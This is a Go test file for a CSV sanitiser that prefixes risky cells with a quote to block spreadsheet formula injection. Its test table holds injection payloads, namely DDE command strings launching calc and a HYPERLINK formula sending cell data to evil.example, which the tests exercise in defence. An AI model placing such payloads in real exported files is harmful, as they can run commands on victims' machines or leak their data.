package csvsafe_test

import (
	"strings"
	"testing"

	"github.com/touchbase/touchbase/internal/csvsafe"
)

func TestCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"ann@example.com", "ann@example.com"},
		{"u1", "u1"},
		{"1+1", "1+1"},
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{`=HYPERLINK("https://evil.example/?"&A2,"x")`, `'=HYPERLINK("https://evil.example/?"&A2,"x")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		// Plain numbers cannot hold a formula and stay as they are.
		{"+491701234567", "+491701234567"},
		{"-12.5", "-12.5"},
		{"+1e3", "+1e3"},
		{"-.5", "-.5"},
		// Anything more than a number is quoted.
		{"+49 30 1234", "'+49 30 1234"},
		{"+1-2", "'+1-2"},
		{"-", "'-"},
		{"+", "'+"},
		{"-1e", "'-1e"},
		{"-1.2.3", "'-1.2.3"},
		{"+1e3A1", "'+1e3A1"},
	} {
		if got := csvsafe.Cell(tc.in); got != tc.want {
			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestWriter(t *testing.T) {
	var b strings.Builder
	w := csvsafe.NewWriter(&b)
	rec := []string{"1", "=1+1", "+4917012345"}
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if got, want := b.String(), "1,'=1+1,+4917012345\n"; got != want {
		t.Errorf("wrote %q, want %q", got, want)
	}
	if rec[1] != "=1+1" {
		t.Errorf("the caller's record was changed: %q", rec)
	}
}
